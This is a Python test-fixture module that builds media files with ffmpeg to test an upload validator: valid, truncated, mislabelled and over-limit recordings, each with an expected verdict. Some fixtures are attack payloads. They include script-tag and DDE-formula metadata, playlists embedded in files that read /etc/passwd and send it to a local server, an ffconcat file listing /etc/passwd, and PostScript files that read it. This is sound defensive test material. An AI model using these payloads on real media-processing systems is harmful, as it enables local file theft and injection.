"""Recordings, made by ffmpeg when a test wants them: sound ones, damaged ones, lists in their dress, and ones beyond all limits."""

from __future__ import annotations

import functools
import struct
import subprocess
import tempfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

from . import Case, Expected, refused, sound

TONE = ("-f", "lavfi", "-i", "sine=440:d={seconds}")
SCENE = ("-f", "lavfi", "-i", "testsrc=s={size}:r=10:d={seconds}")
H264 = ("-c:v", "libx264", "-preset", "ultrafast", "-g", "10", "-pix_fmt", "yuv420p")
AAC = ("-c:a", "aac", "-b:a", "32k", "-ac", "1")


@functools.cache
def made(
    ending: str, *arguments: str, seconds: float = 1, size: str = "160x120", scene: bool = True, tone: bool = True
) -> bytes:
    """A recording of a moving scene with a tone, as ffmpeg writes it with these arguments; made once a session."""
    sources = [*(SCENE if scene else ()), *(TONE if tone else ())]
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / f"made.{ending}"
        command = ["ffmpeg", "-nostdin", "-v", "error", *(word.format(seconds=seconds, size=size) for word in sources)]
        subprocess.run([*command, *arguments, str(target)], check=True)
        return target.read_bytes()


def film(seconds: float = 1, *more: str, size: str = "160x120", tone: bool = True) -> bytes:
    """A film as a phone writes it: its index comes last."""
    return made("mp4", *H264, *(AAC if tone else ()), *more, seconds=seconds, size=size, tone=tone)


def web_film(seconds: float = 1) -> bytes:
    """A film for the web: its index comes first."""
    return film(seconds, "-movflags", "+faststart")


def tone(ending: str, *arguments: str, seconds: float = 1) -> bytes:
    """A tone in a format."""
    return made(ending, *arguments, seconds=seconds, scene=False)


def tagged(ending: str, *arguments: str) -> bytes:
    """A recording whose title, comment and artist are HTML and formulas."""
    tags = {
        "title": "<script>alert(1)</script>",
        "artist": "=cmd|' /C calc'!A0",
        "comment": "CANARY-TAG",
        "location": "+51.5-000.1/",
    }
    return tone(ending, *arguments, *(word for name, text in tags.items() for word in ("-metadata", f"{name}={text}")))


def boxes(data: bytes) -> dict[bytes, tuple[int, int]]:
    """The outermost boxes of an MP4: name → where it starts and ends."""
    found, at = {}, 0
    while at + 8 <= len(data):
        size, name = struct.unpack_from(">I4s", data, at)
        found[name] = (at, at + size)
        at += size
    return found


def without(data: bytes, name: bytes) -> bytes:
    """An MP4 without one of its boxes."""
    start, end = boxes(data)[name]
    return data[:start] + data[end:]


def offsets_out_of_bounds() -> bytes:
    """An MP4 whose index says that it has four milliard pieces."""
    data = bytearray(film())
    at = data.rindex(b"stco")
    struct.pack_into(">I", data, at + 8, 0xFFFFFFFF)
    return bytes(data)


def hours_of_silence(hours: int) -> bytes:
    """An MP3 of so many hours: one silent frame, again and again."""
    frame = b"\xff\xf3\x18\xc4" + bytes(68)  # MPEG 2, layer III, 8 kbit/s at 16 kHz: 36 ms in 36 bytes
    frame = frame[:36]
    return frame * (hours * 3600 * 1000 // 36)


def wav_head(rate: int, size: int) -> bytes:
    """What stands before the samples of a WAV."""
    head = b"RIFF" + struct.pack("<I", 36 + size) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, rate, rate, 1, 8)
    return head + b"data" + struct.pack("<I", size)


def hours_of_sampled_silence() -> bytes:
    """A WAV of ten hours, sampled so coarsely that it is small."""
    rate, size = 100, 10 * 3600 * 100
    return wav_head(rate, size) + b"\x80" * size


def long_said() -> bytes:
    """A film of a second that says that it lasts a year."""
    data = bytearray(film())
    for name, offset in ((b"mvhd", 20), (b"tkhd", 24), (b"mdhd", 20)):
        at = data.find(name)
        while at >= 0:
            struct.pack_into(">I", data, at + offset, 0x7FFFFFFF)
            at = data.find(name, at + 4)
    at = data.find(b"stts")
    struct.pack_into(">II", data, at + 12, 10, 0x0FFFFFFF)
    return bytes(data)


def locked() -> bytes:
    """A song as a shop sells it: its sound is enciphered."""
    return tone("m4a", *AAC).replace(b"mp4a", b"enca")


def avi_with_playlist() -> bytes:
    """An AVI whose subtitles are a list that reads a file and sends it to a server."""
    data = made("avi", "-c:v", "mpeg4", "-c:a", "mp3")
    listed = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://127.0.0.1:9/x|file:///etc/passwd\n#EXT-X-ENDLIST\n"
    chunk = b"GAB2\x00\x02\x00\x00\x00\x00\x00\x04\x00" + struct.pack("<I", len(listed)) + listed
    junk = b"JUNK" + struct.pack("<I", len(chunk)) + chunk + b"\x00" * (len(chunk) % 2)
    return data[:4] + struct.pack("<I", len(data) - 8 + len(junk)) + data[8:] + junk


def data_elsewhere() -> bytes:
    """A film whose index says that its pictures are in another file."""
    data = film()
    return data.replace(b"url \x00\x00\x00\x01", b"url \x00\x00\x00\x00")


LIST = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{}\n#EXT-X-ENDLIST\n"
CONCAT = "ffconcat version 1.0\nfile '/etc/passwd'\n"
PS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\nshowpage\n"
DOS_EPS = b"\xc5\xd0\xd3\xc6" + struct.pack("<6I", 32, len(PS), 0, 0, 0, 0) + bytes(4) + PS
NEW = ("converted",)


def _taken(name: str, filename: str, kind: str, make: Callable[[], bytes], *notes: str) -> Case:
    return Case(name, filename, make, sound(kind, None, *notes))


CASES = (
    _taken("film, index last", "1001.mp4", "video/mp4", film),
    _taken("film, index first", "1001.mp4", "video/mp4", web_film),
    _taken("film in fragments", "1001.mp4", "video/mp4", partial(film, 1, "-movflags", "+frag_keyframe+empty_moov")),
    _taken("film without sound", "1001.mp4", "video/mp4", partial(film, tone=False), "no-sound"),
    _taken("film of a telephone", "1001.mov", "video/quicktime", partial(made, "mov", *H264, *AAC)),
    _taken(
        "film, HEVC",
        "1001.mp4",
        "video/mp4",
        partial(made, "mp4", "-c:v", "libx265", "-x265-params", "log-level=none", *AAC),
        *NEW,
    ),
    _taken("film, VP8", "1001.webm", "video/webm", partial(made, "webm", "-c:v", "libvpx", "-c:a", "libopus"), *NEW),
    _taken(
        "film, VP9",
        "1001.webm",
        "video/webm",
        partial(made, "webm", "-c:v", "libvpx-vp9", "-deadline", "realtime", "-c:a", "libvorbis"),
        *NEW,
    ),
    _taken("matroska", "1001.mkv", "video/x-matroska", partial(made, "mkv", *H264, "-c:a", "ac3"), *NEW),
    _taken("avi", "1001.avi", "video/x-msvideo", partial(made, "avi", "-c:v", "mpeg4", "-c:a", "mp3"), *NEW),
    _taken("windows media", "1001.wmv", "video/x-ms-asf", partial(made, "wmv", "-c:v", "wmv2", "-c:a", "wmav2"), *NEW),
    _taken(
        "mpeg", "1001.mpg", "video/mpeg", partial(made, "mpg", "-r", "25", "-c:v", "mpeg2video", "-c:a", "mp2"), *NEW
    ),
    _taken(
        "old phone",
        "1001.3gp",
        "video/3gpp",
        partial(made, "3gp", "-s", "176x144", "-c:v", "h263", *AAC, "-ar", "8000"),
        *NEW,
    ),
    _taken("wav", "1001.wav", "audio/wav", partial(tone, "wav")),
    _taken("mp3", "1001.mp3", "audio/mpeg", partial(tone, "mp3")),
    _taken("m4a", "1001.m4a", "audio/mp4", partial(tone, "m4a", *AAC)),
    _taken("ogg", "1001.ogg", "audio/ogg", partial(tone, "ogg", "-c:a", "libvorbis")),
    _taken("opus", "1001.opus", "audio/ogg", partial(tone, "opus", "-c:a", "libopus")),
    _taken("flac", "1001.flac", "audio/flac", partial(tone, "flac")),
    _taken("aiff", "1001.aiff", "audio/aiff", partial(tone, "aiff"), *NEW),
    _taken("aac", "1001.aac", "audio/aac", partial(tone, "aac", *AAC)),
    _taken("tags of HTML, mp3", "1001.mp3", "audio/mpeg", partial(tagged, "mp3")),
    _taken("tags of HTML, m4a", "1001.m4a", "audio/mp4", partial(tagged, "m4a", *AAC)),
    _taken("avi with a playlist", "1001.avi", "video/x-msvideo", avi_with_playlist, *NEW),
    _taken("data elsewhere", "1001.mp4", "video/mp4", data_elsewhere),
    _taken("many channels", "1001.wav", "audio/wav", partial(tone, "wav", "-ac", "6")),
    Case("playlist named mp4", "1001.mp4", lambda: LIST.format("file:///etc/passwd").encode(), refused("playlist")),
    Case("playlist of a server", "1001.mp3", lambda: LIST.format("http://127.0.0.1:9/x").encode(), refused("playlist")),
    Case("eps named jpg", "1001.jpg", lambda: PS, refused("postscript")),
    Case("eps of DOS named png", "1001.png", lambda: DOS_EPS, refused("postscript")),
    Case("index missing", "1001.mp4", lambda: without(film(), b"moov"), refused("incomplete", "video/mp4")),
    Case("cut in the index", "1001.mp4", lambda: film()[:-100], refused("incomplete", "video/mp4")),
    Case("cut in the film", "1001.mp4", lambda: web_film()[:-500], refused("incomplete", "video/mp4")),
    Case("index of four milliard pieces", "1001.mp4", offsets_out_of_bounds, refused("damaged", "video/mp4")),
    Case(
        "data after the film",
        "1001.mp4",
        lambda: film() + b"PK\x03\x04" + bytes(4000),
        refused("trailing-data", "video/mp4"),
    ),
    Case(
        "two indices",
        "1001.mp4",
        lambda: film() + film()[slice(*boxes(film())[b"moov"])],
        refused("damaged", "video/mp4"),
    ),
    Case(
        "film without a track",
        "1001.mp4",
        lambda: film()[:32] + b"\x00\x00\x00\x08moov",
        refused("recording-empty", "video/mp4"),
    ),
    Case("wav cut short", "1001.wav", lambda: tone("wav")[:-5000], refused("incomplete", "audio/wav")),
    Case("data after the wav", "1001.wav", lambda: tone("wav") + bytes(5000), refused("trailing-data", "audio/wav")),
    Case("wav of nothing", "1001.wav", lambda: wav_head(8_000, 0), refused("recording-empty", "audio/wav")),
    Case(
        "mp3 of tags only",
        "1001.mp3",
        lambda: b"ID3\x04\x00\x00\x00\x00\x07\x76" + bytes(1014),
        refused("damaged", "audio/mpeg"),
    ),
    Case(
        "ten hours of silence", "1001.mp3", partial(hours_of_silence, 10), refused("recording-too-long", "audio/mpeg")
    ),
    Case("ten hours in a wav", "1001.wav", hours_of_sampled_silence, refused("recording-too-long", "audio/wav")),
    Case("a year in a second", "1001.mp4", long_said, refused("recording-too-long", "video/mp4")),
    Case(
        "picture of 16k",
        "1001.mp4",
        partial(film, 0.1, size="16384x64", tone=False),
        refused("recording-too-large", "video/mp4"),
    ),
    Case(
        "codec of archives",
        "1001.mkv",
        partial(made, "mkv", "-c:v", "ffv1", "-c:a", "flac"),
        refused("recording-codec", "video/x-matroska"),
    ),
    Case(
        "codec of a game",
        "1001.avi",
        partial(made, "avi", "-c:v", "cinepak", "-c:a", "mp3"),
        refused("recording-codec", "video/x-msvideo"),
    ),
    Case(
        "odd sound",
        "1001.mkv",
        partial(made, "mkv", *H264, "-c:a", "tta"),
        refused("recording-codec", "video/x-matroska"),
    ),
    Case("locked song", "1001.m4a", locked, refused("recording-locked", "audio/mp4")),
    Case("m4a named mp3", "1001.mp3", partial(tone, "m4a", *AAC), Expected("audio/mp4", other_name=True)),
    Case("film named mov", "1001.mov", film, Expected("video/mp4", other_name=True)),
    Case(
        "avi named mp4",
        "1001.mp4",
        partial(made, "avi", "-c:v", "mpeg4", "-c:a", "mp3"),
        Expected("video/x-msvideo", None, frozenset(NEW), other_name=True),
    ),
)
